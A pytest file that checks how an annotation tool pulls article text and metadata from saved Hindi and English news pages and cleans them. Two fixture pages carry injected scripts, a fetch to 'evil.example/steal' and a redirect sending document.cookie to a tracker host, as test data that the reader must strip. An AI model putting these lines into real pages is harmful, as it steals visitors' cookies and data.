"""Saved web pages: main text and metadata, encodings, empty and broken pages, clean-up; plain-text clean-up.

No test may touch the network: every socket connection and name lookup raises, and each test checks that
nothing tried.
"""

import socket
import unicodedata

import pytest
from sqlalchemy import select

from annotator.errors import RecordError
from annotator.formats import html, plaintext
from annotator.formats.records import SourceRecord, read_path


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("a test tried to use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield attempts
    assert attempts == [], "the reader tried to reach the network"


def read_one(path, **options):
    items = list(html.read(path, name=options.pop("name", None), **options))
    assert len(items) == 1
    item, consumed = items[0]
    assert consumed == path.stat().st_size
    return item


def record(path, **options) -> SourceRecord:
    item = read_one(path, **options)
    assert isinstance(item, SourceRecord), item
    return item


def error(path, **options) -> RecordError:
    item = read_one(path, **options)
    assert isinstance(item, RecordError), item
    assert item.where == str(path)
    assert str(path) in str(item)
    return item


# Hindi, with a precomposed nukta letter (U+095B ज़), decomposed ones (ढ़ = U+0922 U+093C) and emoji.
HINDI_P1 = (
    "राष्ट्रीय जाँच एजेंसी (NIA) ने शनिवार को पहलगाम हमले की जाँच तेज़ कर दी। अधिकारियों ने बताया कि कई "
    "संदिग्धों से पूछताछ की जा रही है और सीमा पार से जुड़े सबूत मिले हैं। 🇮🇳"
)
HINDI_P2 = (
    "गृह मंत्रालय ने कहा कि दोषियों को बख़्शा नहीं जाएगा और सुरक्षा बलों को हाई अलर्ट पर रखा गया है। "
    "\u095bिला प्रशासन ने लोगों से शांति बनाए रखने की अपील की 🙏"
)
HINDI_PAGE = f"""<!DOCTYPE html>
<html lang="hi-IN">
<head>
<meta charset="utf-8">
<title>पहलगाम हमले की जाँच तेज़ | समाचार दर्पण</title>
<link rel="canonical" href="https://www.samachar-darpan.example/desh/pahalgam-jaanch">
<meta property="og:site_name" content="समाचार दर्पण">
<meta property="og:url" content="https://www.samachar-darpan.example/desh/pahalgam-jaanch?utm_source=x">
<meta property="article:published_time" content="2025-07-26T10:30:00+05:30">
<meta name="author" content="राहुल शर्मा">
<script>document.title = "हैक"; document.write("EVIL SCRIPT TEXT"); fetch("https://evil.example/steal");</script>
<style>body {{ color: red; }} .x::after {{ content: "STYLE TEXT"; }}</style>
</head>
<body>
<nav><ul><li><a href="/">होम</a></li><li><a href="/desh">देश</a></li>
<li><a href="/videsh">विदेश</a></li></ul></nav>
<div class="ad">विज्ञापन: सस्ते फ़ोन खरीदें</div>
<article>
<h1>पहलगाम हमले की जाँच तेज़</h1>
<p>{HINDI_P1}</p>
<img src="https://cdn.samachar-darpan.example/photo.jpg" alt="घटनास्थल की तस्वीर">
<p>{HINDI_P2}</p>
<noscript>कृपया JavaScript चालू करें</noscript>
</article>
<footer>© 2025 समाचार दर्पण | सर्वाधिकार सुरक्षित</footer>
</body></html>
"""

EN_P = [
    "Two militants were killed on Friday when the Army foiled an infiltration bid along the Line of Control "
    "in the Machil sector of Kupwara district, officials said.",
    "A defence spokesperson said troops spotted suspicious movement near the fence late on Thursday night "
    "and challenged the intruders, triggering a gunfight that lasted several hours.",
    "Two AK-47 rifles, ammunition and a satellite phone were recovered from the site, he added.",
]
EN_PAGE = f"""<!doctype html>
<html lang="en-IN">
<head>
<meta charset="utf-8">
<title>Army foils infiltration bid along LoC in Kupwara - The Frontier Post</title>
<meta property="og:url" content="https://frontier.example.com/india/army-foils-infiltration-kupwara">
<script type="application/ld+json">{{"@context": "https://schema.org", "@type": "NewsArticle",
 "headline": "Army foils infiltration bid along LoC in Kupwara", "datePublished": "2025-05-02T08:15:00+05:30",
 "author": {{"@type": "Person", "name": "Aisha Qadri"}},
 "publisher": {{"@type": "Organization", "name": "The Frontier Post"}}}}</script>
<script>window.location = "https://tracker.example.net/?c=" + document.cookie;
document.write("INJECTED");</script>
<link rel="stylesheet" href="https://cdn.example.net/site.css">
</head>
<body>
<header><a href="/">The Frontier Post</a>
<nav><a href="/india">India</a> | <a href="/world">World</a></nav></header>
<div class="advert"><img src="https://ads.example.net/banner.gif" alt="Buy now">
Subscribe for just Rs 99!</div>
<main><article>
<h1>Army foils infiltration bid along LoC in Kupwara</h1>
<p>{EN_P[0]}</p>
<figure><img src="https://images.example.net/kupwara.jpg" alt="Soldiers patrol the fence"></figure>
<p>{EN_P[1]}</p>
<p>{EN_P[2]}</p>
</article></main>
<aside><h3>Trending</h3><ul><li><a href="/a">Monsoon to arrive early</a></li></ul></aside>
<footer>Copyright 2025 The Frontier Post. All rights reserved.</footer>
</body>
</html>
"""

# The seed article's shape as a page: an embedded X post (with a line break) and a read-also list.
POST_P = [
    "अमेरिका के विदेश मंत्री मार्को रुबियो ने शुक्रवार को पाकिस्तान के उप प्रधानमंत्री ईशाक डार से वाशिंगटन में "
    "मुलाकात की। दोनों नेताओं ने आतंकवाद के खिलाफ सहयोग पर चर्चा की।",
    "मुलाकात के बाद एक्स पर एक पोस्ट में रुबियो ने पाकिस्तान की साझेदारी के लिए आभार जताया।",
    "बैठक में आगामी आतंकवाद निरोधक संवाद की भी योजना बनाई गई, जो इस अगस्त में इस्लामाबाद में होने वाला है।",
]
POST_PAGE = f"""<html lang="hi"><head><meta charset="utf-8">
<title>रुबियो-डार मुलाकात - न्यूज़ साइट</title></head><body>
<nav><a href="/">होम</a> <a href="/x">देश</a></nav>
<div class="entry-content">
<p>{POST_P[0]}</p>
<p>{POST_P[1]}</p>
<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Met with Pakistani Deputy Prime Minister
<a href="https://twitter.com/MIshaqDar50">@MIshaqDar50</a> today.<br>Thanked him for Pakistan’s partnership.
<a href="https://t.co/QZB9RZwIA8">pic.twitter.com/QZB9RZwIA8</a></p>&mdash; Secretary Marco Rubio (@SecRubio)
<a href="https://twitter.com/SecRubio/status/1">July 25, 2025</a></blockquote>
<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>
<p>{POST_P[2]}</p>
<p><strong>यह भी पढ़ें:</strong></p>
<p>कारगिल विजय दिवस: राष्ट्रपति ने किया वीर शहीदों को नमन !</p>
<p><a href="/b">रिश्वतखोरी मामले में पूर्व अधिकारी को तीन साल की सजा</a></p>
</div>
<div class="comments"><p>टिप्पणी: बहुत अच्छा लेख, धन्यवाद</p></div>
</body></html>
"""
POST_QUOTE = [
    "> Met with Pakistani Deputy Prime Minister @MIshaqDar50 today. Thanked him for Pakistan’s partnership. "
    "pic.twitter.com/QZB9RZwIA8",
    "> — Secretary Marco Rubio (@SecRubio) July 25, 2025",
]


# --------------------------------------------------------------------------------------------------
# Text and metadata
# --------------------------------------------------------------------------------------------------


def test_hindi_page_text_and_metadata(tmp_path, no_network):
    path = tmp_path / "hindi.html"
    path.write_text(HINDI_PAGE, encoding="utf-8")
    rec = record(path, name="desh/hindi.html")
    assert rec.text == f"{HINDI_P1}\n{HINDI_P2}"
    assert "\u095b" in rec.text and "🇮🇳" in rec.text and "🙏" in rec.text  # as written; the import normalizes
    assert rec.title == "पहलगाम हमले की जाँच तेज़"
    assert rec.external_id == "desh/hindi.html" and rec.where == str(path)
    assert rec.meta == {
        "url": "https://www.samachar-darpan.example/desh/pahalgam-jaanch",
        "source": "समाचार दर्पण",
        "site": "samachar-darpan.example",
        "published": "2025-07-26",
        "author": "राहुल शर्मा",  # as written (trafilatura's own clean-up would give "राहुल शर्म")
        "lang": "hi",
        "file": "desh/hindi.html",
    }
    assert rec.annotations == []
    for boilerplate in (
        "होम",
        "विज्ञापन",
        "सर्वाधिकार",
        "घटनास्थल",
        "JavaScript",
        "EVIL",
        "fetch",
        "STYLE",
        "हैक",
    ):
        assert boilerplate not in rec.text
    assert no_network == []


def test_english_page_text_and_metadata_from_json_ld(tmp_path):
    path = tmp_path / "kupwara.htm"
    path.write_text(EN_PAGE, encoding="utf-8")
    rec = record(path)
    assert rec.text == "\n".join(EN_P)
    assert rec.title == "Army foils infiltration bid along LoC in Kupwara"
    assert rec.external_id == "kupwara.htm"
    assert rec.meta == {
        "url": "https://frontier.example.com/india/army-foils-infiltration-kupwara",
        "source": "The Frontier Post",
        "site": "frontier.example.com",
        "published": "2025-05-02",
        "author": "Aisha Qadri",
        "lang": "en",
        "file": "kupwara.htm",
    }
    for boilerplate in (
        "INJECTED",
        "window.location",
        "cookie",
        "Subscribe",
        "Trending",
        "Copyright",
        "India |",
    ):
        assert boilerplate not in rec.text


def test_fallback_metadata_from_tags(tmp_path):
    """Without a usable <title> from trafilatura's view: og:title; URL from a browser's 'saved from' note."""
    page = (
        "<!-- saved from url=(0041)https://news.example.in/story/123.html -->\n"
        '<html><head><meta property="og:title" content="सीमा पर घुसपैठ नाकाम">'
        '<meta name="author" content="https://news.example.in/authors/x"></head>'
        f"<body><div><p>{HINDI_P1}</p></div></body></html>"
    )
    path = tmp_path / "saved.html"
    path.write_text(page, encoding="utf-8")
    rec = record(path)
    assert rec.title == "सीमा पर घुसपैठ नाकाम"
    assert rec.text == HINDI_P1
    assert rec.meta == {
        "url": "https://news.example.in/story/123.html",
        "source": "news.example.in",
        "site": "news.example.in",
        "lang": "hi",  # no declaration: from the script of the text
        "file": "saved.html",
    }


def test_lang_declaration_that_contradicts_the_script(tmp_path):
    path = tmp_path / "p.html"
    path.write_text(
        f'<html lang="en"><body><article><p>{HINDI_P1}</p></article></body></html>', encoding="utf-8"
    )
    assert record(path).meta["lang"] == "hi"


def test_malformed_html_does_not_crash(tmp_path):
    sentence = "पहलगाम हमले की जाँच तेज़ कर दी गई है और कई लोगों से पूछताछ हो रही है।"
    path = tmp_path / "broken.html"
    path.write_bytes(
        f"<p>अधूरा <b>टैग <i>{sentence}<div>{sentence}</span></td></table><<<>>> &bogus; <p <p>".encode()
    )
    rec = record(path)
    assert rec.title == ""
    # trafilatura 2.3 puts a space where the <div> starts, 2.2 does not
    assert rec.text in (
        f"अधूरा टैग {sentence} {sentence}<<<>>> &bogus;",
        f"अधूरा टैग {sentence}{sentence}<<<>>> &bogus;",
    )


def test_read_path_dispatches_htm_with_options(tmp_path):
    path = tmp_path / "post.htm"
    path.write_text(POST_PAGE, encoding="utf-8")
    ((rec, _),) = list(read_path(path, None, "in/post.htm", clean=True))
    assert rec.external_id == "in/post.htm" and rec.meta["cleanup"]["quotes"] == 1


# --------------------------------------------------------------------------------------------------
# Encodings
# --------------------------------------------------------------------------------------------------

LATIN_BODY = (
    "<p>" + "The café owner said the police arrived late, after the crowd had left the square. " * 2 + "</p>"
)


def test_utf8_declared_but_latin1_bytes_is_an_error(tmp_path):
    path = tmp_path / "lying.html"
    data = f"<html><head><meta charset='utf-8'></head><body>{LATIN_BODY}</body></html>".encode("cp1252")
    path.write_bytes(data)
    err = error(path)
    assert f"invalid UTF-8 (byte 0xE9) at byte {data.index(0xE9)}" in err.reason
    assert "declares charset 'utf-8'" in err.reason


def test_undecodable_bytes_without_declaration_is_an_error(tmp_path):
    path = tmp_path / "bytes.html"
    path.write_bytes(b"<html><body><p>ok \xff\xfe\x80 broken</p></body></html>")
    err = error(path)
    assert "invalid UTF-8 (byte 0xFF) at byte 18" in err.reason and "declares no charset" in err.reason


def test_legacy_charset_declared_but_page_is_utf8(tmp_path):
    """Re-saved as UTF-8 with the old <meta> left in place: the bytes win, the lie is recorded."""
    path = tmp_path / "resaved.html"
    page = (
        '<html><head><meta charset="windows-1252"></head>'
        f"<body><article><p>{HINDI_P1}</p></article></body></html>"
    )
    path.write_bytes(page.encode("utf-8"))
    rec = record(path)
    assert rec.text == HINDI_P1
    assert rec.meta["declared_charset"] == "windows-1252"


def test_real_legacy_charset_is_decoded(tmp_path):
    path = tmp_path / "latin.html"
    page = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1"></head>'
        f"<body>{LATIN_BODY}</body></html>"
    )
    path.write_bytes(page.encode("cp1252"))
    rec = record(path)
    assert rec.text.startswith("The café owner said") and rec.meta["encoding"] == "cp1252"


def test_bytes_invalid_in_the_declared_charset_and_unknown_charset(tmp_path):
    bad = tmp_path / "bad1252.html"
    bad.write_bytes(
        b"<html><head><meta charset='windows-1252'></head><body><p>caf\xe9 \x81</p></body></html>"
    )
    assert "0x81" in error(bad).reason and "windows-1252" in error(bad).reason
    unknown = tmp_path / "unknown.html"
    unknown.write_bytes(b"<html><head><meta charset='klingon-8'></head><body><p>caf\xe9</p></body></html>")
    assert "'klingon-8'" in error(unknown).reason and "unknown" in error(unknown).reason


def test_utf16_with_bom(tmp_path):
    path = tmp_path / "utf16.html"
    path.write_bytes(
        f"\ufeff<html><body><article><p>{HINDI_P1}</p></article></body></html>".encode("utf-16-le")
    )
    assert record(path).text == HINDI_P1


# --------------------------------------------------------------------------------------------------
# Empty pages
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty file"),
        (b" \n\t\n", "empty file"),
        (b"<!-- nothing but a comment -->", "no article text found"),
        (b"<html><head><title>Nothing</title></head><body></body></html>", "no article text found"),
        (
            b"<html><head><title>Menu</title><script>var x = 'lots of script text';</script></head>"
            b"<body><nav><a href='/'>Home</a> <a href='/w'>World</a></nav>"
            b"<footer>(c) 2025 Site</footer></body></html>",
            "no article text found",
        ),
    ],
)
def test_empty_pages_are_errors(tmp_path, content, reason):
    path = tmp_path / "empty.html"
    path.write_bytes(content)
    assert reason in error(path).reason


# --------------------------------------------------------------------------------------------------
# Clean-up
# --------------------------------------------------------------------------------------------------


def test_page_with_post_and_read_also_list(tmp_path):
    path = tmp_path / "post.html"
    path.write_text(POST_PAGE, encoding="utf-8")
    raw = record(path)
    assert raw.title == "रुबियो-डार मुलाकात"
    # trafilatura drops link-only paragraphs (the second headline); the marker and a plain headline stay
    assert raw.text.endswith("\nयह भी पढ़ें:\nकारगिल विजय दिवस: राष्ट्रपति ने किया वीर शहीदों को नमन !")
    assert "रिश्वतखोरी" not in raw.text and "cleanup" not in raw.meta
    assert "टिप्पणी" not in raw.text  # reader comments are not article text
    cleaned = record(path, clean=True)
    assert cleaned.text == "\n".join([POST_P[0], POST_P[1], *POST_QUOTE, POST_P[2]])
    assert cleaned.meta["cleanup"] == {
        "removed_lines": 2,
        "quotes": 1,
        "removed": ["यह भी पढ़ें:", "कारगिल विजय दिवस: राष्ट्रपति ने किया वीर शहीदों को नमन !"],
    }
    custom = record(path, clean=True, read_also=("Must read",))
    assert "यह भी पढ़ें:" in custom.text and custom.meta["cleanup"]["removed_lines"] == 0


def test_page_with_only_a_read_also_list_is_an_error_when_cleaned(tmp_path):
    path = tmp_path / "list.html"
    path.write_text(
        "<html><body><article><p>यह भी पढ़ें:</p><p>कारगिल विजय दिवस पर शहीदों को नमन</p>"
        "<p>मुंबई हाईकोर्ट की दो टूक</p></article></body></html>",
        encoding="utf-8",
    )
    assert isinstance(read_one(path), SourceRecord)
    assert "no article text left after clean-up (3 read-also line(s) cut)" in error(path, clean=True).reason


def test_plain_text_reader_clean_option(tmp_path):
    path = tmp_path / "a.txt"
    post = "Met with him today. https://t.co/x1\n— Marco Rubio (@SecRubio) July 25, 2025"
    body = f"{POST_P[0]}\n{POST_P[1]}\n{post}"
    path.write_text(f"रुबियो-डार मुलाकात\n\n{body}\n{POST_P[2]}\nये भी पढ़ें:\nहेडलाइन एक\nहेडलाइन दो\n\n", "utf-8")

    ((plain, size),) = list(plaintext.read(path))  # default: as before
    assert size == path.stat().st_size
    assert plain.meta == {"file": "a.txt"} and plain.text.endswith("हेडलाइन दो")

    ((rec, _),) = list(plaintext.read(path, name="in/a.txt", clean=True))
    assert rec.title == "रुबियो-डार मुलाकात" and rec.external_id == "in/a.txt"
    assert rec.text == (
        f"रुबियो-डार मुलाकात\n\n{POST_P[0]}\n{POST_P[1]}\n> Met with him today. https://t.co/x1\n"
        f"> — Marco Rubio (@SecRubio) July 25, 2025\n{POST_P[2]}"
    )
    assert rec.meta == {
        "file": "in/a.txt",
        "cleanup": {"removed_lines": 3, "quotes": 1, "removed": ["ये भी पढ़ें:", "हेडलाइन एक", "हेडलाइन दो"]},
    }
    ((kept, _),) = list(plaintext.read(path, clean=True, read_also="Must read"))
    assert kept.text.endswith("हेडलाइन दो") and kept.meta["cleanup"]["quotes"] == 1

    only = tmp_path / "only.txt"
    only.write_text("शीर्षक\nयह भी पढ़ें:\nहेडलाइन एक\n", "utf-8")
    ((err, _),) = list(plaintext.read(only, clean=True))
    assert isinstance(err, RecordError) and "only.txt" in str(err) and "clean-up" in err.reason


# --------------------------------------------------------------------------------------------------
# End to end
# --------------------------------------------------------------------------------------------------


def test_import_folder_of_pages_with_clean(tmp_path, no_network):
    from annotator.services.importing import import_paths
    from annotator.services.project import init_project
    from annotator.store.models import Document

    folder = tmp_path / "pages"
    (folder / "desh").mkdir(parents=True)
    (folder / "desh" / "hindi.html").write_text(HINDI_PAGE, encoding="utf-8")
    (folder / "post.htm").write_text(POST_PAGE, encoding="utf-8")
    (folder / "empty.html").write_bytes(b"<html><body></body></html>")

    with init_project(tmp_path / "p.annotator") as project:
        report = import_paths(project, [folder], clean=True)
        with project.session() as s:
            docs = {d.external_id: d for d in s.execute(select(Document).order_by(Document.id)).scalars()}

    assert report.documents_added == 2 and report.files == 3
    assert [str(e.where) for e in report.errors] == [str(folder / "empty.html")]
    assert "no article text found" in report.errors[0].reason

    hindi = docs["desh/hindi.html"]
    assert hindi.title == "पहलगाम हमले की जाँच तेज़"
    assert hindi.text == unicodedata.normalize("NFC", f"{HINDI_P1}\n{HINDI_P2}")
    assert "\u095b" not in hindi.text and "\u091c\u093cिला" in hindi.text  # stored NFC
    assert hindi.meta["url"] == "https://www.samachar-darpan.example/desh/pahalgam-jaanch"
    assert hindi.meta["source"] == "समाचार दर्पण" and hindi.meta["lang"] == "hi"
    assert hindi.meta["cleanup"] == {"removed_lines": 0, "quotes": 0, "removed": []}

    post = docs["post.htm"]
    assert post.text == "\n".join([POST_P[0], POST_P[1], *POST_QUOTE, POST_P[2]])
    assert post.meta["cleanup"]["removed_lines"] == 2 and post.meta["cleanup"]["quotes"] == 1
    assert no_network == []
